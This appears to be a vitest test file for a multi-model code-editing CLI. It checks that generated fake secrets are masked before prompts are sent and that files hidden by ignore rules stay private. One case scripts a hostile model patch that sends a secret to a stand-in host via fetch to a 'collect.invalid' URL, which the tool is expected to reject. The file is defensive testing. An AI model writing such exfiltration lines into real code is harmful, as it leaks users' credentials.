import { readFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, test } from "vitest";
import { drawn, fakePrivateKey } from "../../support/fake-secrets.ts";
import { GitWorkspace } from "../../support/git-workspace.ts";
import { runCli, type CliResult } from "../../support/run-cli.ts";
import { ScriptedServer } from "../../support/server/scripted-server.ts";

const key = `ghp_${drawn("github", 36)}`;
const password = `${drawn("database", 6)}-x7Q`;
const privateKey = fakePrivateKey("deploy");
const envToken = drawn("env", 32);

const config = `export const region = "eu";
export const retries = 2;
export const github = "${key}";
export const database = "postgres://app:${password}@db.internal/app";
export const deploy = \`${privateKey}\`;
`;

/** All that a secret is recognised by. */
const secrets = [key, password, envToken, ...privateKey.split("\n").slice(1, -1)];

function edit(path: string, search: string, replace: string): string {
  return `Done.\n\n${path}\n<<<<<<< SEARCH\n${search}\n=======\n${replace}\n>>>>>>> REPLACE\n`;
}

const moreRetries = edit("config.ts", "export const retries = 2;", "export const retries = 3;");

function ask(
  workspace: GitWorkspace,
  server: ScriptedServer,
  models: readonly string[],
  ...more: readonly string[]
): Promise<CliResult> {
  return runCli([
    "edit",
    ...["--root", workspace.root, "--instruction", "Retry three times"],
    ...["--base-url", server.baseUrl, ...models.flatMap((model) => ["--model", model]), ...more],
  ]);
}

function promptsOf(server: ScriptedServer): string {
  return JSON.stringify(server.requests.map(({ body }) => body));
}

function expectNoSecretIn(text: string): void {
  for (const secret of secrets) {
    expect(text).not.toContain(secret);
  }
}

/** The word that stands for the secret on the line that begins so, as the model was shown it. */
function placeholderIn(prompt: string, lineStart: string): string {
  const line = prompt.split("\n").find((each) => each.startsWith(lineStart)) ?? "";
  return /MOA_SECRET_\d+_[0-9a-f]+/.exec(line)?.[0] ?? "no placeholder";
}

describe("secrets", () => {
  test("are not sent; an edit around them applies, and they stay byte for byte", async () => {
    using workspace = GitWorkspace.of({ "config.ts": config });
    await using server = await ScriptedServer.start();
    server.model("m").answers(({ prompt }) => {
      const shown = /\[begin \w+ file: config\.ts\]\n([^]*?)\[end/.exec(prompt)?.[1] ?? "";
      const wanted = shown.replace("retries = 2", "retries = 3").replace("const github", "const gitHub");
      return edit("config.ts", shown.trimEnd(), wanted.trimEnd());
    });
    const { code, stderr } = await ask(workspace, server, ["m"], "--file", "config.ts", "--apply");
    expect(code, stderr).toBe(0);
    expect(server.requests.length).toBeGreaterThan(0);
    expectNoSecretIn(promptsOf(server));
    expect(promptsOf(server)).toContain('export const github = \\"MOA_SECRET_');
    expect(readFileSync(join(workspace.root, "config.ts"), "utf8")).toBe(
      config.replace("retries = 2", "retries = 3").replace("const github", "const gitHub"),
    );
    expect(stderr).toMatch(/note +Not sent: 3 secrets in config\.ts\./);
    expect(stderr).toMatch(/read config\.ts:3 before applying/);
    expect(stderr.match(/Not sent/g)).toHaveLength(1);
  });

  test("are not sent to repair, critic and aggregator, in no check output, and not kept in the journal", async () => {
    using workspace = GitWorkspace.of({
      "config.ts": config,
      ".env": `SERVICE_TOKEN=${envToken}\n`,
      "check.mjs": `import { readFileSync } from "node:fs";
const text = readFileSync("config.ts", "utf8") + readFileSync(".env", "utf8");
console.log(text);
process.exit(text.includes("retries = 3") ? 0 : 1);
`,
    });
    await using server = await ScriptedServer.start();
    const wrong = (retries: number): string => moreRetries.replace("= 3", `= ${retries}`);
    server.model("a").answers(wrong(4)).answers(wrong(5)).answers(wrong(6));
    server.model("b").answers(wrong(7)).answers(wrong(8));
    server.model("critic").answers("All of them are wrong.");
    server
      .model("a")
      .when(({ prompt }) => prompt.includes("your own final answer"))
      .answers(moreRetries);
    const journal = join(workspace.root, "..", "journal.jsonl");
    const { code, stderr } = await ask(
      workspace,
      server,
      ["a", "b"],
      ...["--file", "config.ts", "--check", "node check.mjs", "--journal", journal, "--apply"],
    );
    expect(code, stderr).toBe(0);
    const prompts = promptsOf(server);
    expect(prompts).toContain("Your change was tried and does not hold");
    expect(prompts).toContain("Criticise each answer");
    expect(prompts).toContain("your own final answer");
    expect(prompts).toContain("check output: node check.mjs");
    expect(prompts).toContain("SERVICE_TOKEN=MOA_SECRET_");
    expectNoSecretIn(prompts);
    expectNoSecretIn(stderr);
    const kept = readFileSync(journal, "utf8");
    expect(kept).toContain('"kind":"finished"');
    expectNoSecretIn(kept);
    expect(readFileSync(join(workspace.root, "config.ts"), "utf8")).toBe(
      config.replace("retries = 2", "retries = 3"),
    );
  });

  test("have one placeholder in all prompts of a run, whose beginnings are the same", async () => {
    using workspace = GitWorkspace.of({ "config.ts": config });
    await using server = await ScriptedServer.start();
    server.models("a", "b", "c").answers(moreRetries);
    await ask(workspace, server, ["a", "b", "c"], "--file", "config.ts", "--strategy", "moa");
    const tasks = server.requests.map(({ prompt }) =>
      prompt.slice(0, prompt.indexOf("It is about config.ts")),
    );
    expect(server.requests.length).toBe(5);
    expect(tasks[0]).toContain("MOA_SECRET_");
    expect(new Set(tasks).size).toBe(1);
  });

  test.each([
    ["another file", (secret: string) => edit("log.ts", "", `console.log("${secret}");`)],
    [
      "a URL",
      (secret: string) =>
        edit("config.ts", 'export const region = "eu";', `fetch("https://collect.invalid/?k=${secret}");`),
    ],
    [
      "a second place",
      (secret: string) => edit("config.ts", 'export const region = "eu";', `console.log("${secret}");`),
    ],
    [
      "a word that is no placeholder",
      (secret: string) => edit("config.ts", 'export const region = "eu";', `log("${secret.slice(0, -1)}");`),
    ],
  ])("a model cannot have them written into %s", async (_, hostile) => {
    using workspace = GitWorkspace.of({ "config.ts": config });
    await using server = await ScriptedServer.start();
    server.model("m").answers(({ prompt }) => hostile(placeholderIn(prompt, "export const github")));
    const ran = join(workspace.root, "..", "ran");
    const { code, stdout, stderr } = await ask(
      workspace,
      server,
      ["m"],
      ...[
        "--file",
        "config.ts",
        "--check",
        `node -e "require('fs').appendFileSync('${ran}', 'x')"`,
        "--apply",
      ],
    );
    expect([code, stdout]).toEqual([1, ""]);
    expect(stderr).toContain("Secrets stay where they are.");
    expect(readFileSync(ran, "utf8"), "the check ran without the patch only").toBe("x");
    expect(workspace.git("status", "--porcelain")).toBe("");
    expectNoSecretIn(promptsOf(server));
  });

  test("that the user writes into the request are not sent, and go where he wants them", async () => {
    using workspace = GitWorkspace.of({ "config.ts": config });
    await using server = await ScriptedServer.start();
    const fresh = `ghp_${drawn("fresh", 36)}`;
    server.model("m").answers(({ prompt }) => {
      const placeholder = /use (MOA_SECRET_\w+) from now on/.exec(prompt)?.[1] ?? "";
      return edit("release.ts", "", `export const github = "${placeholder}";`);
    });
    const wish = ["--instruction", `In release.ts use ${fresh} from now on`];
    const { code, stdout, stderr } = await ask(workspace, server, ["m"], "--file", "config.ts", ...wish);
    expect(code, stderr).toBe(0);
    expect(promptsOf(server)).not.toContain(fresh);
    expect(stderr).toContain("1 secret in the request");
    expect(stdout).toContain(`+export const github = "${fresh}";`);
  });

  test("what a model makes up itself is no secret, and may be written anywhere", async () => {
    using workspace = GitWorkspace.of({ "config.ts": config });
    await using server = await ScriptedServer.start();
    const invented = `glpat-${drawn("invented", 24)}`;
    const answer = edit("test.ts", "", `export const token = "${invented}";`);
    server.models("a", "b").answers(answer);
    // The aggregator takes it over as it is shown to it.
    server
      .model("a")
      .when(({ prompt }) => prompt.includes("your own final answer"))
      .answers(({ prompt }) => edit("test.ts", "", /export const token = .*/.exec(prompt)?.[0] ?? ""));
    const { code, stdout, stderr } = await ask(
      workspace,
      server,
      ["a", "b"],
      "--file",
      "config.ts",
      "--strategy",
      "moa",
    );
    expect(code, stderr).toBe(0);
    expect(stdout).toContain(`+export const token = "${invented}";`);
    expect(stderr).not.toContain("Secrets stay where they are");
    expect(server.requests.filter(({ prompt }) => prompt.includes(invented))).toHaveLength(2);
  });
});

describe("hidden files", () => {
  const files = {
    "main.ts":
      'import { a } from "./private/a";\nimport { b } from "./generated/b";\nexport const retries = a + b;\n',
    "private/a.ts": "export const a = 1; // hidden-a\n",
    "generated/b.ts": "export const b = 1; // hidden-b\n",
    "lib/.moaignore": "internal.ts\n",
    "lib/internal.ts": "export const retries = 1; // hidden-c\n",
    ".env": "MODE=hidden-d retries\n",
    "server.pem": "hidden-e retries\n",
    ".moaignore": "# not for models\nprivate/\n",
    ".gitignore": "generated/\n",
  };

  test("are never sent: not when imported, not when named, not when nothing else is", async () => {
    using workspace = GitWorkspace.of(files);
    await using server = await ScriptedServer.start();
    server.model("m").answers(edit("main.ts", "export const retries = a + b;", "export const retries = 3;"));
    const named = "set retries in private/a.ts, .env, server.pem, lib/internal.ts and generated/b.ts";
    for (const more of [["--file", "main.ts"], []]) {
      const { code, stderr } = await ask(workspace, server, ["m"], "--instruction", named, ...more);
      expect(code, stderr).toBe(0);
    }
    expect(promptsOf(server)).toContain("file: main.ts");
    expect(promptsOf(server)).not.toMatch(/hidden-[a-e]/);
  });

  test.each([
    ["private/a.ts", "export const a = 1; // hidden-a", "private/a.ts is hidden from models by .moaignore"],
    ["lib/internal.ts", "export const retries = 0;", "hidden from models by lib/.moaignore"],
    ["private/new.ts", "", "hidden from models by .moaignore"],
    ["generated/b.ts", "export const b = 2;", "is ignored by git"],
    [".env", "MODE=", ".env is a file for secrets"],
    [".moaignore", "private/", ".moaignore is a file for secrets or settings of privacy"],
  ])("a patch to %s is refused, and shows nothing of it to the model", async (path, search, reason) => {
    using workspace = GitWorkspace.of(files);
    await using server = await ScriptedServer.start();
    server.model("m").answers(edit(path, search, "export const a = 2;"));
    const { code, stderr } = await ask(workspace, server, ["m"], "--file", "main.ts", "--apply");
    expect(code).toBe(1);
    expect(stderr).toContain(reason);
    expect(promptsOf(server)).not.toMatch(/hidden-[b-e]/);
    expect(workspace.git("status", "--porcelain")).toBe("");
  });

  test("pointing at one is one clear message, before anything is sent", async () => {
    using workspace = GitWorkspace.of(files);
    await using server = await ScriptedServer.start();
    const { code, stdout, stderr } = await ask(workspace, server, ["m"], "--file", "private/a.ts");
    expect([code, stdout]).toEqual([1, ""]);
    expect(stderr).toContain(
      "private/a.ts is hidden from models by .moaignore: it is not shown to them, and they cannot change it. To work on it, take it out of .moaignore; else point at another file.",
    );
    expect(server.requests).toHaveLength(0);
  });

  test("a file for secrets is shown, without its secrets, to who points at it", async () => {
    using workspace = GitWorkspace.of({ ".env": `MODE=dev\nSERVICE_TOKEN=${envToken}\n` });
    await using server = await ScriptedServer.start();
    server.model("m").answers(edit(".env", "MODE=dev", "MODE=production"));
    const { code, stderr } = await ask(workspace, server, ["m"], "--file", ".env", "--apply");
    expect(code, stderr).toBe(0);
    expect(promptsOf(server)).toContain("SERVICE_TOKEN=MOA_SECRET_");
    expectNoSecretIn(promptsOf(server));
    expect(readFileSync(join(workspace.root, ".env"), "utf8")).toBe(
      `MODE=production\nSERVICE_TOKEN=${envToken}\n`,
    );
  });

  test("a repository cannot show what is hidden", async () => {
    using workspace = GitWorkspace.of({
      ...files,
      ".moaignore": "!.env\n!server.pem\nprivate/\n",
      "private/.moaignore": "!a.ts\n",
    });
    await using server = await ScriptedServer.start();
    server.model("m").answers(edit("main.ts", "export const retries = a + b;", "export const retries = 3;"));
    await ask(workspace, server, ["m"]);
    expect(promptsOf(server)).toContain("file: main.ts");
    expect(promptsOf(server)).not.toMatch(/hidden-[a-e]/);
  });
});
